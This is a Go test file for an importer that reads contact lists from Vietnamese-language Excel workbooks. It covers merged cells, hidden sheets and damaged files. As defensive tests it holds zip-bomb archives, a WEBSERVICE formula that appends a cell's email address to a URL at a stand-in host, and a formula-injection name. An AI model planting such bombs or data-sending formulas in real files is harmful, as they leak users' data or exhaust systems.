package contact

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"bantin"
)

// workbook writes an XLSX as an office would have it and gives its path.
func workbook(t testing.TB, fill func(x *excelize.File)) string {
	t.Helper()
	x := excelize.NewFile()
	defer x.Close()
	fill(x)
	file := filepath.Join(t.TempDir(), "danh-sách.xlsx")
	if err := x.SaveAs(file); err != nil {
		t.Fatal(err)
	}
	return file
}

// set writes rows from a cell on.
func set(t testing.TB, x *excelize.File, sheet, from string, rows ...[]any) {
	t.Helper()
	column, row, err := excelize.CellNameToCoordinates(from)
	if err != nil {
		t.Fatal(err)
	}
	for i, values := range rows {
		at, err := excelize.CoordinatesToCellName(column, row+i)
		if err != nil {
			t.Fatal(err)
		}
		if err := x.SetSheetRow(sheet, at, &values); err != nil {
			t.Fatal(err)
		}
	}
}

func check(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// readAll reads a list: its rows, and what was rejected.
func readAll(t testing.TB, path string) (*Reader, []Row, []*RowError) {
	t.Helper()
	r, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { check(t, r.Close()) })
	var rows []Row
	var bad []*RowError
	for {
		row, err := r.Next()
		var e *RowError
		switch {
		case errors.Is(err, io.EOF):
			return r, rows, bad
		case errors.As(err, &e):
			bad = append(bad, e)
		case err != nil:
			t.Fatal(err)
		default:
			rows = append(rows, row)
		}
	}
}

// A list as an office keeps it: on the second sheet, below a title over merged
// cells and a blank row, with headings in two rows and their numbers below,
// provinces merged over their secretaries, years as numbers and a date.
func TestExcelOfAnOffice(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		set(t, x, "Sheet1", "A1", []any{"Hướng dẫn: điền vào trang sau"})
		_, err := x.NewSheet("Thư ký các tỉnh")
		check(t, err)
		s := "Thư ký các tỉnh"
		set(t, x, s, "A1", []any{"DANH SÁCH THƯ KÝ HỘI KHUYẾN HỌC CÁC TỈNH, THÀNH PHỐ"})
		check(t, x.MergeCell(s, "A1", "G1"))
		set(t, x, s, "A3",
			[]any{"TT", "Họ và tên", "Nơi công tác", "", "Địa chỉ\nthư điện tử", "Nhãn", "Ngày vào Hội"},
			[]any{"", "", "Tỉnh/\nthành phố", "Cấp", "", "", ""},
			[]any{"(1)", "(2)", "(3)", "(4)", "(5)", "(6)", "(7)"},
			[]any{1, "Nguyễn Thị Ánh", "Phú Thọ", "Tỉnh", "anh@example.org", 2026, time.Date(2026, 3, 26, 0, 0, 0, 0, time.UTC)},
			[]any{2, "Lê Văn Bình", "", "Huyện", "binh@example.org", 1.5, ""},
			[]any{3, "Trần Cường", "", "Xã", "", "tây bắc", ""},
			[]any{},
			[]any{4, "Đỗ Dũng", "Lào Cai", "Tỉnh", "dung@example.org", "", ""})
		for _, m := range [][2]string{{"A3", "A4"}, {"B3", "B4"}, {"C3", "D3"}, {"E3", "E4"}, {"C6", "C8"}} {
			check(t, x.MergeCell(s, m[0], m[1]))
		}
		_, err = x.NewSheet("Ẩn")
		check(t, err)
		set(t, x, "Ẩn", "A1", []any{"email"}, []any{"an@example.org"})
		check(t, x.SetSheetVisible("Ẩn", false))
		_, err = x.NewSheet("Huyện")
		check(t, err)
		set(t, x, "Huyện", "A1", []any{"email"}, []any{"huyen@example.org"})
	})
	r, rows, bad := readAll(t, file)
	want := []Row{
		{Line: 6, Contact: bantin.Contact{Email: "anh@example.org", Name: "Nguyễn Thị Ánh", Place: "phu-tho", Level: bantin.LevelProvince, Tags: []string{"2026"}}},
		{Line: 7, Contact: bantin.Contact{Email: "binh@example.org", Name: "Lê Văn Bình", Place: "phu-tho", Level: bantin.LevelDistrict, Tags: []string{"1.5"}}},
		{Line: 10, Contact: bantin.Contact{Email: "dung@example.org", Name: "Đỗ Dũng", Place: "lao-cai", Level: bantin.LevelProvince}},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	if len(bad) != 1 || bad[0].Line != 8 || bad[0].Reason.EN != "there is no address" || bad[0].Fields[2] != "Phú Thọ" {
		t.Errorf("rejected: %+v", bad)
	}
	if r.Sheet != "Thư ký các tỉnh" || len(r.Notes) != 1 || !strings.Contains(r.Notes[0].EN, `"Huyện" has a list too`) {
		t.Errorf("sheet %q, notes %v", r.Sheet, r.Notes)
	}
	if diff := cmp.Diff([]string{"TT", "Ngày vào Hội"}, r.Ignored()); diff != "" {
		t.Errorf("ignored headings (-want +got)\n%s", diff)
	}
}

// Of a formula counts what it last came to; one that came to nothing is empty.
func TestExcelFormulas(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		set(t, x, "Sheet1", "A1", []any{"email", "họ tên", "tỉnh", "nhãn"}, []any{"anh@example.org", "", "Huế"}, []any{"binh@example.org"})
	})
	file = rewrite(t, file, func(name string, data []byte) []byte {
		if name != "xl/worksheets/sheet1.xml" {
			return data
		}
		return bytes.Replace(data, []byte("</sheetData>"), []byte(`<row r="4">
			<c r="A4" t="str"><f>LOWER("Cuong@Example.org")</f><v>cuong@example.org</v></c>
			<c r="B4" t="str"><f>WEBSERVICE("http://example.net/?"&amp;A2)</f><v>Trần Cường</v></c>
			<c r="C4" t="e"><f>VLOOKUP(A4,A1:C3,3)</f><v>#N/A</v></c>
			<c r="D4"><f>2000+26</f><v>2026</v></c></row></sheetData>`), 1)
	})
	_, rows, bad := readAll(t, file)
	want := Row{Line: 4, Contact: bantin.Contact{Email: "cuong@example.org", Name: "Trần Cường", Tags: []string{"2026"}}}
	if len(bad) > 0 || len(rows) != 3 {
		t.Fatalf("%+v, rejected %v", rows, bad)
	}
	if diff := cmp.Diff(want, rows[2]); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// What is no list is told in words that say what to do.
func TestBadWorkbooks(t *testing.T) {
	dir := t.TempDir()
	put := func(name string, data []byte) string {
		t.Helper()
		path := filepath.Join(dir, name)
		check(t, os.WriteFile(path, data, 0o600))
		return path
	}
	secret := excelize.NewFile()
	protected := filepath.Join(dir, "mat-khau.xlsx")
	check(t, secret.SaveAs(protected, excelize.Options{Password: "bí mật"}))
	check(t, secret.Close())
	good, err := os.ReadFile(workbook(t, func(x *excelize.File) { set(t, x, "Sheet1", "A1", []any{"email"}, []any{"anh@example.org"}) }))
	check(t, err)
	old := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 4096)...)
	for _, c := range []struct{ name, path, want string }{
		{"a password", protected, "protected by a password"},
		{"an .xls under the name .xlsx", put("cu.xlsx", old), "the old kind (.xls)"},
		{"another zip", put("zip.xlsx", archive(t, map[string]int{"mimetype": 10})), "no Excel file of the kind .xlsx"},
		{"cut", put("cut.xlsx", good[:len(good)*2/3]), "damaged or was not copied whole"},
		{"a zip bomb", put("bom.xlsx", archive(t, map[string]int{"xl/workbook.xml": 10, "xl/media/a.png": 70 << 20})), "unpacks to far too much"},
		{"a bomb of rows", put("bom2.xlsx", declaring(t, good, 1100<<20)), "unpacks to far too much"},
		{"a bomb that says it is small", put("bom4.xlsx", declaring(t, good, 10)), "damaged"},
		{"a bomb of texts", put("bom5.xlsx", with(t, good, "xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si/>", maxSharedStrings+1)+"</sst>")), "more than 3 million different texts, too many: save it as CSV UTF-8"},
		{"a bomb of styles", put("bom6.xlsx", with(t, good, "xl/styles.xml", strings.Repeat(" ", maxPartBytes+1))), "unpacks to far too much"},
		{"a bomb of a comment", put("bom7.xlsx", with(t, good, "xl/worksheets/sheet1.xml", "<worksheet><sheetData><!--"+strings.Repeat(" >", maxXMLText)+"--></sheetData></worksheet>")), "too many cells, or a text is too long"},
		{"a bomb of cells", put("bom8.xlsx", with(t, good, "xl/worksheets/sheet1.xml", "<worksheet><sheetData><row>"+strings.Repeat("<c/>", 100_000)+"</row></sheetData></worksheet>")), "too many cells, or a text is too long"},
		{"a bomb of parts", put("bom3.xlsx", archive(t, parts(6000))), "6000 parts"},
		{"no addresses", workbook(t, func(x *excelize.File) {
			set(t, x, "Sheet1", "A1", []any{"họ tên", "tỉnh"}, []any{"Ánh", "Huế"})
		}), "the headings found are: họ tên, tỉnh; the sheets are Sheet1"},
		{"nothing", workbook(t, func(*excelize.File) {}), "the list is empty; the sheets are Sheet1"},
		{"OpenDocument", put("ds.ods", archive(t, map[string]int{"mimetypeapplication/vnd.oasis.opendocument.spreadsheet": 0})), "LibreOffice (.ods). Open it in Excel, choose File > Save As"},
		{"XML of 2003", put("ds.xls", []byte("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">")), "SpreadsheetML). Open it in Excel"},
		{"a web page", put("ds2.xls", []byte("\ufeff<html><table><tr><td>Email</td></tr></table></html>")), "a web page (HTML)"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := Open(c.path)
			if err == nil {
				t.Fatal(r.Close(), "it was taken")
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v\nwant: %s", err, c.want)
			}
		})
	}
	large := put("lon.xlsx", []byte("PK\x03\x04"))
	check(t, os.Truncate(large, 100<<20))
	if _, err := Open(large); err == nil || !strings.Contains(err.Error(), "larger than 64 MB: split it, or save it as CSV") {
		t.Errorf("100 MB: %v", err)
	}
}

// Cells in the last column of many rows, which somebody touched by mistake, cost Excel
// nothing and a reader 16,384 cells a row.
func TestCellsInTheLastColumn(t *testing.T) {
	good, err := os.ReadFile(workbook(t, func(x *excelize.File) { set(t, x, "Sheet1", "A1", []any{"email"}, []any{"anh@example.org"}) }))
	check(t, err)
	read := func(rows int) error {
		var b strings.Builder
		b.WriteString(`<worksheet><sheetData><row r="1"><c r="A1" t="str"><v>email</v></c></row>`)
		for i := range rows {
			fmt.Fprintf(&b, `<row r="%[1]d"><c r="A%[1]d" t="str"><v>anh%[1]d@example.org</v></c><c r="XFD%[1]d" t="str"><v>x</v></c></row>`, i+2)
		}
		path := filepath.Join(t.TempDir(), "ds.xlsx")
		check(t, os.WriteFile(path, with(t, good, "xl/worksheets/sheet1.xml", b.String()+"</sheetData></worksheet>"), 0o600))
		r, err := Open(path)
		check(t, err)
		defer r.Close()
		for n := 0; ; n++ {
			if _, err = r.Next(); err != nil {
				if errors.Is(err, io.EOF) && n != rows {
					t.Errorf("%d of %d rows", n, rows)
				}
				return err
			}
		}
	}
	if err := read(50); !errors.Is(err, io.EOF) {
		t.Error(err)
	}
	if err := read(maxBeyond/16_000 + 50); err == nil || !strings.Contains(err.Error(), "Delete Sheet Columns") {
		t.Error(err)
	}
}

// A sheet that is damaged in its middle does not pass for one that ends there.
func TestDamagedSheet(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		set(t, x, "Sheet1", "A1", []any{"email"})
		for i := range 200 {
			set(t, x, "Sheet1", fmt.Sprintf("A%d", i+2), []any{fmt.Sprintf("c%d@example.org", i)})
		}
	})
	broken := rewrite(t, file, func(name string, data []byte) []byte {
		if !strings.HasPrefix(name, "xl/worksheets/") {
			return data
		}
		return bytes.Replace(data, []byte(`<row r="100"`), []byte(`<row r=100`), 1)
	})
	r, err := Open(broken)
	check(t, err)
	defer r.Close()
	for err == nil || errors.As(err, new(*RowError)) {
		_, err = r.Next()
	}
	if errors.Is(err, io.EOF) || !strings.Contains(err.Error(), "damaged after row") {
		t.Errorf("it ended with %v", err)
	}
}

// What is written is read back the same, and nothing in it is a formula.
func TestWriteXLSX(t *testing.T) {
	want := []bantin.Contact{
		{Email: "anh@example.org", Name: `=HYPERLINK("http://example.net")`, Place: "phu-tho", Level: bantin.LevelProvince, Language: "vi", Tags: []string{"+tây bắc", "2026"}},
		{Email: "binh@example.org", Name: "Lê Văn Bình"},
	}
	file := filepath.Join(t.TempDir(), "xuat.xlsx")
	f, err := os.Create(file)
	check(t, err)
	check(t, WriteXLSX(f, all(want)))
	check(t, f.Close())
	_, rows, bad := readAll(t, file)
	var got []bantin.Contact
	for _, row := range rows {
		got = append(got, row.Contact)
	}
	if diff := cmp.Diff(want, got); diff != "" || len(bad) > 0 {
		t.Errorf("rejected %v (-want +got)\n%s", bad, diff)
	}
	x, err := excelize.OpenFile(file)
	check(t, err)
	defer x.Close()
	if formula, err := x.GetCellFormula("Sheet1", "B2"); formula != "" || err != nil {
		t.Errorf("a name is the formula %q: %v", formula, err)
	}
}

func all(list []bantin.Contact) iter.Seq2[bantin.Contact, error] {
	return func(yield func(bantin.Contact, error) bool) {
		for _, c := range list {
			if !yield(c, nil) {
				return
			}
		}
	}
}

// archive makes a zip of parts of zeros.
func archive(t testing.TB, sizes map[string]int) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	zeros := make([]byte, 1<<20)
	for name, size := range sizes {
		part, err := w.Create(name)
		check(t, err)
		for size > 0 {
			n, err := part.Write(zeros[:min(size, len(zeros))])
			check(t, err)
			size -= n
		}
	}
	check(t, w.Close())
	return b.Bytes()
}

// declaring copies an archive; its first sheet says that it unpacks to size.
func declaring(t testing.TB, file []byte, size uint64) []byte {
	t.Helper()
	in, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	check(t, err)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, part := range in.File {
		h := part.FileHeader
		if part.Name == "xl/worksheets/sheet1.xml" {
			h.UncompressedSize64 = size
		}
		r, err := part.OpenRaw()
		check(t, err)
		out, err := w.CreateRaw(&h)
		check(t, err)
		_, err = io.Copy(out, r)
		check(t, err)
	}
	check(t, w.Close())
	return b.Bytes()
}

// with copies an archive with another part of that name.
func with(t testing.TB, file []byte, name, text string) []byte {
	t.Helper()
	in, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	check(t, err)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, part := range in.File {
		if part.Name != name {
			check(t, w.Copy(part))
		}
	}
	out, err := w.Create(name)
	check(t, err)
	_, err = io.WriteString(out, text)
	check(t, err)
	check(t, w.Close())
	return b.Bytes()
}

func parts(n int) map[string]int {
	list := map[string]int{}
	for i := range n {
		list[fmt.Sprintf("xl/p%d", i)] = 1
	}
	return list
}

// rewrite copies an archive with its parts changed.
func rewrite(t testing.TB, file string, change func(name string, data []byte) []byte) string {
	t.Helper()
	in, err := zip.OpenReader(file)
	check(t, err)
	defer in.Close()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, part := range in.File {
		r, err := part.Open()
		check(t, err)
		data, err := io.ReadAll(r)
		check(t, err)
		out, err := w.Create(part.Name)
		check(t, err)
		_, err = out.Write(change(part.Name, data))
		check(t, err)
	}
	check(t, w.Close())
	path := filepath.Join(t.TempDir(), "x.xlsx")
	check(t, os.WriteFile(path, b.Bytes(), 0o600))
	return path
}

// A workbook with a sheet for each province is one list, and a sheet that is named for
// one gives it to its rows. Hidden rows are told and taken.
func TestExcelSheetsOfProvinces(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		check(t, x.SetSheetName("Sheet1", "Phú Thọ"))
		set(t, x, "Phú Thọ", "A1", []any{"Email", "Họ tên"}, []any{"lan@example.org", "Lan"}, []any{"mai@example.org", "Mai"})
		check(t, x.SetRowVisible("Phú Thọ", 3, false))
		_, err := x.NewSheet("2. Sơn La")
		check(t, err)
		set(t, x, "2. Sơn La", "A1", []any{"DANH SÁCH"}, []any{"Họ tên", "Email"}, []any{"Hoa", "hoa@example.org"}, []any{"Cúc", "cuc"})
	})
	r, rows, bad := readAll(t, file)
	var got []string
	for _, row := range rows {
		text := fmt.Sprint(row.Line, " ", row.Contact.Email, " ", row.Contact.Place)
		for _, w := range row.Warnings {
			text += " " + w.EN
		}
		got = append(got, text)
	}
	want := []string{"2 lan@example.org phu-tho", "3 mai@example.org phu-tho this row is hidden or filtered out in Excel, and is imported all the same", "3 hoa@example.org son-la"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(bad) != 1 || len(bad[0].Group) != 1 || !strings.Contains(fmt.Sprint(r.Notes), "all 2 sheets are read") {
		t.Errorf("rejected %+v, notes %v", bad, r.Notes)
	}
}

// Strict Open XML, as Excel saves it by that name, is read like the other.
func TestExcelStrict(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		set(t, x, "Sheet1", "A1", []any{"Email", "Tỉnh"}, []any{"lan@example.org", "Điện Biên"}, []any{"mai@example.org", ""})
		check(t, x.MergeCell("Sheet1", "B2", "B3"))
	})
	file = rewrite(t, file, func(_ string, data []byte) []byte {
		data = bytes.ReplaceAll(data, []byte("http://schemas.openxmlformats.org/spreadsheetml/2006/main"), []byte("http://purl.oclc.org/ooxml/spreadsheetml/main"))
		return bytes.ReplaceAll(data, []byte("http://schemas.openxmlformats.org/officeDocument/2006/relationships"), []byte("http://purl.oclc.org/ooxml/officeDocument/relationships"))
	})
	_, rows, bad := readAll(t, file)
	if len(bad) > 0 || len(rows) != 2 || rows[1].Contact.Place != "dien-bien" {
		t.Errorf("%+v, rejected %v", rows, bad)
	}
}

// A sheet of a workbook may be a chart: the list beside it is read.
func TestExcelWithAChart(t *testing.T) {
	file := workbook(t, func(x *excelize.File) {
		set(t, x, "Sheet1", "A1", []any{"Email", "Tỉnh"}, []any{"lan@example.org", "Phú Thọ"})
		check(t, x.AddChartSheet("Biểu đồ", &excelize.Chart{Type: excelize.Col, Series: []excelize.ChartSeries{{Name: "Sheet1!$A$1", Values: "Sheet1!$A$2:$B$2"}}}))
	})
	if _, rows, _ := readAll(t, file); len(rows) != 1 || rows[0].Contact.Email != "lan@example.org" {
		t.Errorf("%+v", rows)
	}
}
